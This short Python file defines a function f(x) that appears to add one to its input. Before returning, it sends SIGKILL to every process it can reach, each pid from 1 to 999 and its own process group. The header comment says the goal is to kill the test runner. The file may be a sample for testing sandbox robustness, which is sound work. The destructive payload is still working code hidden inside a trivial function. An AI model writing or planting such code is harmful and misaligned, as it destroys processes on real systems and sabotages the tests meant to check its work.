# Inside f, sends SIGKILL to every process it may signal (kill(-1), then each pid from 1 to 999 but its
# own), then to its own process group (killpg(0)): kills the test runner if it can reach it.
import os
import signal


def f(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    for pid in range(1, 1000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
    return x + 1
